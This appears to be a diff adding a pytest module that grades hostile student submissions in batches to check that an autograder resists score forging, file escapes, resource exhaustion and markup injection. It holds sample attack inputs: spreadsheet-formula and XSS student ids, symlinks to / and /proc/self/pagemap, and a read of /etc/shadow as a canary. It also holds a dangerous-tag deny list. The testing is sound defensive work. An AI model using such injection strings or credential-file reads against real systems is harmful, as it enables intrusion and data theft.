@@ -1,0 +1,575 @@
+"""Issue #16: submissions that have read our source, graded in batches beside correct students.
+
+The hostile submissions are ``tests/hostile/{forge,escape,stop,exhaust,inject}_*.py`` (each file's
+docstring says what it does and what its honest implementation earns), plus folders and names that
+git cannot hold or that must point at this machine's paths, built here at test time (``_intake_class``,
+``_main_class``). They are graded by ``toolkit grade`` in four batches, each with correct students:
+
+- ``main``: forging scores, escaping into the feedback, exhausting the grader, injecting markup;
+- ``stop``: stopping or hanging the batch (each one alone would end a grader that is not ready);
+- ``similarity``: two near-identical 40,000-token hooks (quadratic similarity);
+- ``intake``: symlinks, /proc/self/pagemap, a 1,200-deep folder, 2,000 files, 300 MB, an
+  unparsable unused file: refused before any sandbox (``load_error``) or graded as usual.
+
+For every batch the tests assert: it completes (grades.csv, summary.html, a feedback page per
+student), correct students get full marks, each hostile one gets the status the design decides and no
+more than its honest implementation earns, no file from outside the output folder is read into it
+(a canary planted next to the class, in another run's results.sqlite, in a solutions-like folder and
+in the grader's environment appears nowhere under it, base64 data decoded), no student-controlled
+markup is live on any page, CSV cells cannot start a formula, each student's folders stay under 20 MB
+with no PNG from the child, the grader's resident memory stays bounded, no ``toolkit-grade-*`` box and
+no process is left behind, and nothing the child sent ran code in the grader.
+
+The grader runs with TMPDIR in the batch's folder (so its boxes can be counted) and, as a safety net
+for this shared machine, with RLIMIT_AS = 5 GiB (a grader that mirrors a child's 2 GiB parameters or
+reads /proc/self/pagemap fails there instead of taking the machine's memory). A batch still running
+after its BATCH_TIMEOUT has hung: it is killed and its tests fail. The main batch grades 33
+submissions, the others 2 to 9 each.
+"""
+
+from __future__ import annotations
+
+import base64
+import csv
+import html
+import json
+import os
+import re
+import resource
+import secrets
+import shutil
+import signal
+import sqlite3
+import subprocess
+import sys
+import time
+from dataclasses import dataclass, field
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parents[1]
+HOSTILE = ROOT / "tests" / "hostile"
+CORRECT = ROOT / "tests" / "plugins" / "attn_einsum.py"
+NO_MASK = ROOT / "tests" / "plugins" / "attn_no_mask.py"  # earns 2: stable and written_out
+FULL = 3 + 2 + 1 + 1 + 2  # attention: public unit checks + hidden random_shapes
+OPTIONS = ["--fast", "-c", "attention", "--timeout", "25", "--workers", "2", "--nproc", "64", "--memory-gb", "3"]
+BATCH_TIMEOUT = {"main": 360, "stop": 240, "similarity": 150, "intake": 180}  # seconds; still running then: hung
+GRADER_ADDRESS_SPACE = 5 << 30  # the grader's RLIMIT_AS here: a safety net for the machine, not the limit under test
+GRADER_RSS_MB = 1536  # the grader's resident memory may not pass this (a quiet batch: under 300 MB)
+STUDENT_CAP = 20 << 20  # bytes in feedback/<student>/ (and gradescope/<student>/)
+CANARY = f"HOSTILE-CANARY-{secrets.token_hex(8)}"
+HIDDEN_LEAK = "HIDDEN" + "-LEAK"  # what escape_hidden_* put in front of the hidden inputs they leak
+ORPHAN = "HOSTILE-" + "ORPHAN"  # in the command line of stop_orphan's daemon
+REDUCE_MARKER = Path("/tmp/toolkit-hostile-pwned-by-reduce")  # created if forge_reduce's payload ever runs
+CHILD_PNGS = {f"plot_{i:02d}.png" for i in range(25)} | {"canary.png", "shadow.png"}
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+# -- what each student may get --------------------------------------------------------------------
+# student -> (statuses the design allows, the most its honest implementation earns). Where the design
+# decides the status it is the only one allowed; "graded" or "crashed" where a broken conversation may
+# end either way (a frame that breaks the protocol ends it; a check may also just fail with a reason).
+EITHER = {"graded", "crashed"}
+HEAVY = EITHER | {"timeout"}  # a submission that moves hundreds of MB may also just run out of time on a busy machine
+MAIN = {
+    "forge_frame_walk": (EITHER, 2),
+    "forge_gc_results": ({"graded"}, 2),
+    "forge_method_replace": ({"graded"}, 2),
+    "forge_code_swap": ({"graded"}, 2),
+    "forge_clear_snapshot": ({"graded"}, 2),
+    "forge_tensor_subclass": (EITHER, 2),
+    "forge_torch_function_mode": ({"graded"}, 2),
+    "forge_every_fd": (EITHER, 2),
+    "forge_reduce": (EITHER, 2),
+    "forge_snapshot_lookup": ({"graded"}, 2),
+    "forge_child_side": ({"graded"}, FULL - 1),
+    "forge_wrong_values": (EITHER, 2),
+    "forge_deep_nested": (EITHER, 1),
+    "escape_plot_paths": ({"graded"}, FULL),
+    "escape_report_symlink": ({"graded"}, FULL),
+    "escape_read_host": ({"graded"}, FULL),
+    "escape_hidden_inputs": ({"graded"}, FULL - 2),
+    "escape_hidden_stderr": (EITHER, FULL - 2),
+    "exhaust_huge_params": (EITHER, 0),
+    "exhaust_huge_tensor": (HEAVY, 0),
+    "exhaust_huge_storage": (HEAVY, FULL),
+    "exhaust_big_pngs": (HEAVY, FULL),
+    "exhaust_scratch_2gib": (HEAVY, 0),
+    "exhaust_long_reason": ({"graded", "crashed"}, 0),  # its 6 MB exception text: cut by the child, or refused
+    "inject_markup": (EITHER, 0),
+    "inject_exception_text": ({"graded"}, 0),
+    # ids that are spreadsheet formulas or markup: empty folders (nothing to load)
+    "@SUM(1+1)*cmd|' -C calc'!A0": ({"load_error"}, 0),
+    "-2+3": ({"load_error"}, 0),
+    "\t=1+1": ({"load_error"}, 0),
+    '<img src=x onerror="alert(7)" class="hostile-xss">': ({"load_error"}, 0),
+}
+FORMULA_GOOD = '=HYPERLINK("hostile.invalid?"&A1,"grades")'  # a correct student with a formula for a name (no "/")
+STOP = {
+    "stop_nested_json": ({"crashed"}, 2),
+    "stop_run_5": (EITHER, 2),
+    "stop_bad_metrics": ({"graded"}, 2),
+    "stop_scratch_deep": ({"graded"}, 2),
+    "stop_pipe_block": ({"timeout"}, FULL),
+    "stop_orphan": ({"graded"}, 2),
+    "stop_deep_expression": ({"load_error"}, 0),
+}
+SIMILARITY = {"quadratic_a": ({"graded"}, FULL), "quadratic_b": ({"graded"}, FULL)}
+INTAKE = {
+    "symlink_top": ({"load_error"}, 0),  # the whole entry is a link to a solution: nothing of the student's
+    "symlink_inside": ({"load_error"}, 2),
+    "symlink_proc": ({"load_error"}, 2),
+    "deep_submission": ({"load_error"}, 2),
+    "many_files": ({"load_error"}, 2),
+    "big_submission": ({"load_error"}, 2),
+    "unused_expression": ({"graded"}, FULL),
+}
+GOOD = {"main": ["good_file", "good_folder", FORMULA_GOOD], "stop": ["good_file"], "similarity": ["good_file"],
+        "intake": ["good_file"]}
+EXPECTED = {"main": MAIN, "stop": STOP, "similarity": SIMILARITY, "intake": INTAKE}
+# attacks the design does not stop (see each file's docstring): their totals may pass the honest one (xfail)
+DESIGN_GAPS = {"forge_snapshot_lookup": "public inputs are predictable: the shipped snapshot is a lookup table",
+               "forge_child_side": "written_out (and the causal check's gradient) are observed in the child"}
+
+
+def test_at_least_20_new_hostile_submissions_each_with_its_honest_score():
+    files = [f for f in HOSTILE.glob("*.py") if f.stem.startswith(("forge_", "escape_", "stop_", "exhaust_", "inject_"))]
+    assert len(files) >= 20
+    for f in files:
+        doc = " ".join(f.read_text().split('"""')[1].split())
+        assert doc.startswith("Hostile: ") and "honest score: " in doc, f.name
+    graded_here = {s for table in EXPECTED.values() for s in table} | {"quadratic_a"}
+    assert {f.stem for f in files} - {"stop_similarity_quadratic"} <= graded_here
+
+
+# -- the batches ---------------------------------------------------------------------------------
+@dataclass
+class Batch:
+    name: str
+    base: Path
+    klass: Path
+    out: Path
+    students: list[str]
+    returncode: int | None = None
+    hung: bool = False
+    seconds: float = 0.0
+    peak_rss_mb: int = 0
+    stderr: str = ""
+    rows: dict[str, dict] = field(default_factory=dict)
+
+    def why(self) -> str:
+        state = "hung (killed)" if self.hung else f"exit code {self.returncode}"
+        return f"batch {self.name}: {state} after {self.seconds:.0f} s; stderr: ...{self.stderr[-2500:]}"
+
+
+def _plant_canaries(base: Path) -> None:
+    """Files outside the output folder that nothing may read into it."""
+    (base / "canary.txt").write_text(f"{CANARY}\n")
+    (base / "plots").mkdir()
+    (base / "plots" / "canary.png").write_bytes(b"\x89PNG\r\n\x1a\n" + CANARY.encode() * 64)
+    (base / "other-run").mkdir()
+    with sqlite3.connect(base / "other-run" / "results.sqlite") as db:
+        db.execute("CREATE TABLE results (student TEXT, record TEXT)")
+        db.execute("INSERT INTO results VALUES (?, ?)", ("someone", json.dumps({"secret": CANARY})))
+    (base / "solutions").mkdir()
+    (base / "solutions" / "attention.py").write_text(f"# {CANARY}\n" + CORRECT.read_text())
+
+
+def _copy_hostile(klass: Path, prefix: tuple[str, ...], base: Path) -> None:
+    for f in sorted(HOSTILE.glob("*.py")):
+        if f.stem.startswith(prefix) and f.stem != "stop_similarity_quadratic":
+            text = f.read_text()
+            if f.stem == "escape_read_host":  # guesses of this machine's layout, as a student who read it might make
+                guesses = [base / "canary.txt", base / "other-run" / "results.sqlite", base / "solutions" / "attention.py",
+                           ROOT / "solutions" / "attention.py", base / "class" / "good_file.py"]
+                text = text.replace("GUESSES: list[str] = []", f"GUESSES: list[str] = {[str(g) for g in guesses]!r}")
+            (klass / f.name).write_text(text)
+
+
+def _main_class(base: Path, klass: Path) -> None:
+    _copy_hostile(klass, ("forge_", "escape_", "exhaust_", "inject_"), base)
+    shutil.copy(CORRECT, klass / "good_file.py")
+    (klass / "good_folder").mkdir()
+    shutil.copy(CORRECT, klass / "good_folder" / "attention.py")
+    shutil.copy(CORRECT, klass / f"{FORMULA_GOOD}.py")
+    for student in MAIN:
+        if not (klass / f"{student}.py").exists():
+            (klass / student).mkdir()
+
+
+def _stop_class(base: Path, klass: Path) -> None:
+    _copy_hostile(klass, ("stop_",), base)
+    shutil.copy(CORRECT, klass / "good_file.py")
+
+
+def _similarity_class(base: Path, klass: Path) -> None:
+    for student in SIMILARITY:
+        shutil.copy(HOSTILE / "stop_similarity_quadratic.py", klass / f"{student}.py")
+    shutil.copy(CORRECT, klass / "good_file.py")
+
+
+def _dig(folder: Path, depth: int, name: str = "d") -> None:
+    """``depth`` nested folders under ``folder``, a file at the bottom (by file descriptor: no path is ever that long)."""
+    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
+    try:
+        for _ in range(depth):
+            os.mkdir(name, dir_fd=fd)
+            fd, old = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd), fd
+            os.close(old)
+        os.close(os.open("bottom.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
+    finally:
+        os.close(fd)
+
+
+def _intake_class(base: Path, klass: Path) -> None:
+    """Folders git cannot hold: symlinks to this machine's files, deep trees, many files, a big one."""
+    (klass / "symlink_top.py").symlink_to(base / "solutions" / "attention.py")
+    for student in ("symlink_inside", "symlink_proc", "deep_submission", "many_files", "big_submission"):
+        (klass / student).mkdir()
+        shutil.copy(NO_MASK, klass / student / "attention.py")
+    (klass / "symlink_inside" / "notes.txt").symlink_to("../../canary.txt")  # relative, to the class's neighbour
+    (klass / "symlink_inside" / "secret.py").symlink_to(base / "solutions" / "attention.py")
+    (klass / "symlink_inside" / "root").symlink_to("/", target_is_directory=True)
+    (klass / "symlink_proc" / "pagemap.py").symlink_to("/proc/self/pagemap")
+    _dig(klass / "deep_submission", 1200)
+    (klass / "many_files" / "data").mkdir()
+    for i in range(2_000):
+        (klass / "many_files" / "data" / f"{i:05d}.txt").write_bytes(b"x")
+    with (klass / "big_submission" / "weights.bin").open("wb") as f:
+        f.truncate(300 << 20)  # sparse: 300 MB to whoever reads it, nothing on this disk
+    (klass / "unused_expression").mkdir()
+    shutil.copy(CORRECT, klass / "unused_expression" / "attention.py")
+    (klass / "unused_expression" / "_scratch.py").write_text("x = " + " + ".join(["1"] * 20_000) + "\n")
+    shutil.copy(CORRECT, klass / "good_file.py")
+
+
+BUILDERS = {"main": _main_class, "stop": _stop_class, "similarity": _similarity_class, "intake": _intake_class}
+
+
+def _cap_grader_memory() -> None:
+    resource.setrlimit(resource.RLIMIT_AS, (GRADER_ADDRESS_SPACE, GRADER_ADDRESS_SPACE))
+
+
+def _vm_hwm_mb(pid: int) -> int:
+    try:
+        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+            if line.startswith("VmHWM:"):
+                return int(line.split()[1]) // 1024
+    except (OSError, ValueError):
+        pass
+    return 0
+
+
+def _raw_id(cell: str) -> str:
+    """The student id a grades.csv cell names, with a formula neutraliser (a leading ') taken off."""
+    return cell[1:] if cell.startswith("'") and cell[1:2] and cell[1:2] in "=+-@\t\r" else cell
+
+
+def grade(base: Path, klass: Path, out: Path, name: str, timeout: float) -> Batch:
+    """``toolkit grade klass --out out`` with this module's options; killed (and marked hung) after ``timeout``."""
+    (base / "tmp").mkdir(exist_ok=True)
+    env = {**os.environ, "TMPDIR": str(base / "tmp"), "HOSTILE_CANARY_ENV": CANARY, "PYTHONPATH": str(ROOT)}
+    cmd = [sys.executable, "-m", "toolkit.cli", "grade", str(klass), "--out", str(out), *OPTIONS]
+    batch = Batch(name, base, klass, out, sorted(p.name.removesuffix(".py") for p in klass.iterdir()))
+    t0 = time.monotonic()
+    with (base / f"{out.name}.stderr").open("wb") as err:
+        proc = subprocess.Popen(cmd, cwd=ROOT, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=err,
+                                start_new_session=True, preexec_fn=_cap_grader_memory)
+        while proc.poll() is None and time.monotonic() - t0 < timeout:
+            batch.peak_rss_mb = max(batch.peak_rss_mb, _vm_hwm_mb(proc.pid))
+            time.sleep(0.25)
+        if proc.poll() is None:
+            batch.hung = True
+            os.killpg(proc.pid, signal.SIGKILL)  # the grader we started, and what it started in its session
+        batch.returncode = proc.wait()
+    batch.seconds = time.monotonic() - t0
+    batch.stderr = (base / f"{out.name}.stderr").read_text(errors="replace")
+    if (out / "grades.csv").exists():
+        with (out / "grades.csv").open(newline="", encoding="utf-8") as f:
+            batch.rows = {_raw_id(r["student"]): r for r in csv.DictReader(f)}
+    return batch
+
+
+def _remove(path: Path) -> None:
+    """rm -rf: it removes trees deeper than Python's recursion limit and folders without permissions."""
+    subprocess.run(["rm", "-rf", "--one-file-system", str(path)], check=False)
+
+
+@pytest.fixture(scope="module")
+def batches(tmp_path_factory):
+    """The four batches, each graded once when a test first asks for it: name -> Batch."""
+    REDUCE_MARKER.unlink(missing_ok=True)
+    made: dict[str, Batch | OSError] = {}
+    bases = []
+
+    def get(name: str) -> Batch:
+        if name not in made:
+            base = tmp_path_factory.mktemp(f"hostile-{name}")
+            bases.append(base)
+            _plant_canaries(base)
+            klass = base / "class"
+            klass.mkdir()
+            try:
+                BUILDERS[name](base, klass)
+            except OSError as e:  # this file system cannot hold the class: every test of the batch says so
+                made[name] = e
+            else:
+                made[name] = grade(base, klass, base / "out", name, BATCH_TIMEOUT[name])
+        if isinstance(made[name], OSError):
+            raise made[name]
+        return made[name]
+
+    yield get
+    for base in bases:
+        _remove(base)
+
+
+BATCHES = list(BUILDERS)
+ALL_STUDENTS = [(b, s) for b in BATCHES for s in EXPECTED[b]]
+
+
+def _page(batch: Batch, student: str) -> str:
+    path = batch.out / "feedback" / student / "index.html"
+    return html.unescape(path.read_text(errors="replace")) if path.exists() else ""
+
+
+# -- the batch completes, with every row -------------------------------------------------------------
+@pytest.mark.parametrize("name", BATCHES)
+def test_the_batch_completes_with_every_row_and_page(batches, name):
+    batch = batches(name)
+    assert not batch.hung and batch.returncode == 0, batch.why()
+    assert (batch.out / "summary.html").exists() and (batch.out / "grades.csv").exists(), batch.why()
+    assert sorted(batch.rows) == batch.students, batch.why()
+    missing = [s for s in batch.students if not (batch.out / "feedback" / s / "index.html").exists()]
+    assert not missing, f"no feedback page for {missing}"
+    summary = html.unescape((batch.out / "summary.html").read_text(errors="replace"))
+    assert all(s in summary for s in batch.students), "a student is missing from summary.html"
+
+
+@pytest.mark.parametrize("name", BATCHES)
+def test_correct_students_get_full_marks(batches, name):
+    batch = batches(name)
+    for student in GOOD[name]:
+        row = batch.rows.get(student)
+        assert row and row["status"] == "graded" and float(row["total"]) == FULL, (student, row, batch.why())
+
+
+@pytest.mark.parametrize("name,student", ALL_STUDENTS, ids=[f"{b}-{s.encode('unicode_escape').decode()}"
+                                                           for b, s in ALL_STUDENTS])
+def test_each_hostile_gets_its_status_and_no_more_than_its_honest_score(batches, name, student):
+    batch = batches(name)
+    statuses, honest = EXPECTED[name][student]
+    row = batch.rows.get(student)
+    assert row is not None, f"no row for {student!r}: " + batch.why()
+    assert row["status"] in statuses, (student, row["status"], _page(batch, student)[-1500:])
+    assert 0 <= float(row["total"]) <= float(row["max_total"]) == FULL, row
+    if student in DESIGN_GAPS and float(row["total"]) > honest:
+        pytest.xfail(f"design gap: {DESIGN_GAPS[student]} ({row['total']} > {honest})")
+    assert float(row["total"]) <= honest, (student, {k: v for k, v in row.items() if v})
+
+
+INTAKE_WORDS = {"symlink_top": "link", "symlink_inside": "link", "symlink_proc": "link", "deep_submission": "deep",
+                "many_files": "files", "big_submission": "MB"}
+
+
+def test_a_submission_refused_at_intake_says_why(batches):
+    batch = batches("intake")
+    for student, word in INTAKE_WORDS.items():
+        page = _page(batch, student)
+        assert word.lower() in page.lower(), (student, page[-800:])
+
+
+# -- nothing from outside the output folder ------------------------------------------------------------
+def _secrets() -> dict[str, tuple[bytes, bool]]:
+    """What may not appear under the output folder: name -> (bytes, only in what students see)."""
+    found = {"the canary": (CANARY.encode(), False), "hidden inputs": (HIDDEN_LEAK.encode(), True),
+             "an SQLite file": (b"SQLite format 3\0", True)}
+    try:
+        root = next(ln for ln in Path("/etc/shadow").read_text().splitlines() if ln.startswith("root:"))
+        if len(root) > 12:
+            found["/etc/shadow"] = (root.encode(), False)
+    except (OSError, StopIteration):
+        pass
+    return found
+
+
+DATA_URI = re.compile(rb"data:[\w/+.-]*;base64,([A-Za-z0-9+/=\s]+)")
+
+
+def _decoded(data: bytes) -> list[bytes]:
+    """The payloads of the base64 data: URIs in a page."""
+    out = []
+    for m in DATA_URI.finditer(data):
+        try:
+            out.append(base64.b64decode(re.sub(rb"\s", b"", m.group(1)) + b"==", validate=False))
+        except ValueError:
+            continue
+    return out
+
+
+@pytest.mark.parametrize("name", BATCHES)
+def test_no_file_from_outside_the_output_folder_is_read_into_it(batches, name):
+    batch = batches(name)
+    assert batch.out.exists(), batch.why()
+    leaks = []
+    for path in batch.out.rglob("*"):
+        if not path.is_file() or path.is_symlink():
+            if path.is_symlink():
+                leaks.append(f"{path.relative_to(batch.out)} is a symlink")
+            continue
+        data = path.read_bytes()
+        blobs = [data] + (_decoded(data) if path.suffix in (".html", ".json", ".htm") else [])
+        seen_by_students = path.relative_to(batch.out).parts[0] in ("feedback", "gradescope")
+        for what, (secret, students_only) in _secrets().items():
+            if (seen_by_students or not students_only) and any(secret in blob for blob in blobs):
+                leaks.append(f"{what} in {path.relative_to(batch.out)}")
+    assert not leaks, leaks[:20]
+
+
+# -- no live markup, no formulas -----------------------------------------------------------------
+DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "textarea",
+                  "base", "link", "frame", "frameset", "applet", "template", "audio", "video", "source", "xmp",
+                  "plaintext", "noscript", "marquee"}
+
+
+class _Markup(HTMLParser):
+    """Collects what would run or load in a browser, and any tag student text managed to open."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.bad: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        attrs = [(n or "", v or "") for n, v in attrs]
+        if tag in DANGEROUS_TAGS:
+            self.bad.append(f"<{tag}>")
+        if tag == "meta" and any(n == "http-equiv" for n, _ in attrs):
+            self.bad.append("<meta http-equiv>")
+        for n, v in attrs:
+            low = re.sub(r"\s", "", v).lower()
+            if n.startswith("on"):
+                self.bad.append(f"<{tag} {n}=>")
+            if low.startswith(("javascript:", "vbscript:", "data:text")):
+                self.bad.append(f"<{tag} {n}={v[:30]}>")
+            if "hostile" in n or (n == "class" and "hostile" in v):  # every injected tag says class="hostile-xss"
+                self.bad.append(f"<{tag}> opened by student text ({n}={v[:30]})")
+            if tag == "img" and n == "src" and not v.startswith("data:image/png;base64,"):
+                self.bad.append(f"<img src={v[:30]}>")
+            if tag == "a" and n == "href" and not (v.startswith(("feedback/", "#", "https://", "index.html"))):
+                self.bad.append(f"<a href={v[:40]}>")
+
+
+@pytest.mark.parametrize("name", BATCHES)
+def test_no_student_markup_is_live_on_any_page(batches, name):
+    batch = batches(name)
+    pages = list(batch.out.rglob("*.html"))
+    assert pages, batch.why()
+    bad = []
+    for page in pages:
+        if page.stat().st_size > 50 << 20:
+            bad.append(f"{page.relative_to(batch.out)}: {page.stat().st_size >> 20} MB, too big to be a page")
+            continue
+        parser = _Markup()
+        parser.feed(page.read_text(errors="replace"))
+        bad += [f"{page.relative_to(batch.out)}: {b}" for b in dict.fromkeys(parser.bad)]
+    assert not bad, bad[:20]
+
+
+def test_no_csv_cell_can_start_a_formula(batches):
+    batch = batches("main")
+    assert (batch.out / "grades.csv").exists(), batch.why()
+    with (batch.out / "grades.csv").open(newline="", encoding="utf-8") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], [c for c in cells if c.startswith(FORMULA_STARTS)]
+    assert any(c == "'" + FORMULA_GOOD for c in cells)
+
+
+def test_hidden_checks_are_not_listed_on_feedback_pages_and_hook_errors_in_them_stay_generic(batches):
+    batch = batches("main")
+    for student in ("good_file", "escape_hidden_inputs", "inject_exception_text", "forge_wrong_values"):
+        page = _page(batch, student)
+        assert page, batch.why()
+        assert "random_shapes" not in page, f"{student}: a hidden check is listed before it is published"
+        assert "hidden" in page.lower(), f"{student}: the page does not say that hidden checks exist"
+    results = batch.out / "gradescope" / "escape_hidden_inputs" / "results.json"
+    hidden = [t for t in json.loads(results.read_text())["tests"] if t["visibility"] == "after_published"]
+    assert hidden and all(HIDDEN_LEAK not in t["output"] and "ValueError" not in t["output"] for t in hidden), hidden
+
+
+# -- the grader's resources --------------------------------------------------------------------------
+@pytest.mark.parametrize("name", BATCHES)
+def test_each_student_folder_stays_under_its_cap_with_no_png_from_the_child(batches, name):
+    batch = batches(name)
+    assert batch.out.exists(), batch.why()
+    over, pngs = [], []
+    for kind in ("feedback", "gradescope"):
+        for folder in (batch.out / kind).glob("*") if (batch.out / kind).exists() else []:
+            size = sum(p.stat().st_size for p in folder.rglob("*") if p.is_file() and not p.is_symlink())
+            if size >= STUDENT_CAP:
+                over.append(f"{kind}/{folder.name}: {size >> 20} MB")
+            pngs += [f"{kind}/{folder.name}/{p.name}" for p in folder.rglob("*") if p.name in CHILD_PNGS]
+            index = folder / "index.html"
+            if index.is_file() and index.stat().st_size < 50 << 20:
+                for blob in _decoded(index.read_bytes()):
+                    if blob.startswith(b"\x89PNG\r\n\x1a\n\0\0\0\0") or CANARY.encode() in blob:
+                        pngs.append(f"{kind}/{folder.name}/index.html embeds a PNG the child wrote")
+    assert not over, over
+    assert not pngs, pngs[:10]
+
+
+@pytest.mark.parametrize("name", BATCHES)
+def test_the_grader_memory_stays_bounded(batches, name):
+    batch = batches(name)
+    assert batch.peak_rss_mb < GRADER_RSS_MB, f"the grader's resident memory reached {batch.peak_rss_mb} MB"
+    assert "MemoryError" not in batch.stderr and "Cannot allocate memory" not in batch.stderr, batch.why()
+
+
+def test_scratch_space_is_capped(batches):
+    batch = batches("main")
+    texts = [_page(batch, "exhaust_scratch_2gib")]
+    results = batch.out / "gradescope" / "exhaust_scratch_2gib" / "results.json"
+    texts += [results.read_text()] if results.exists() else []
+    written = [int(n) for t in texts for n in re.findall(r"scratch-written=(\d+) MiB", t)]
+    assert all(n < 2048 for n in written), f"the child wrote {max(written)} MiB into its scratch space"
+
+
+@pytest.mark.parametrize("name", BATCHES)
+def test_no_grading_box_is_left_behind(batches, name):
+    batch = batches(name)
+    left = [p.name for p in (batch.base / "tmp").glob("toolkit-grade-*")]
+    ours = {p.name for p in batch.klass.iterdir()}
+    left += [str(p) for p in Path("/tmp").glob("toolkit-grade-*/submission/*") if p.name in ours]
+    assert not left, left
+
+
+def test_no_process_is_left_behind(batches):
+    batches("stop")
+    time.sleep(1)
+    alive = []
+    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
+        try:
+            if ORPHAN.encode() in cmdline.read_bytes():
+                alive.append(cmdline.parent.name)
+        except OSError:
+            continue
+    for pid in alive:  # what stop_orphan started and the grader left: end it here, by pid
+        try:
+            os.kill(int(pid), signal.SIGKILL)
+        except OSError:
+            pass
+    assert not alive, f"stop_orphan's daemon outlived the batch (pids {alive})"
+
+
+def test_nothing_the_child_sent_ran_code_in_the_grader(batches):
+    batches("main")
+    assert not REDUCE_MARKER.exists()
+
+
+def test_a_rerun_after_a_crash_finishes(batches):
+    """The stop batch graded again into the same folder: what is in the store is not graded again,
+    what is not (a grader that died half-way) is, and the batch ends with every row."""
+    first = batches("stop")
+    again = grade(first.base, first.klass, first.out, "stop (again)", timeout=150)
+    assert not again.hung and again.returncode == 0, again.why()
+    assert sorted(again.rows) == first.students and (first.out / "summary.html").exists(), again.why()
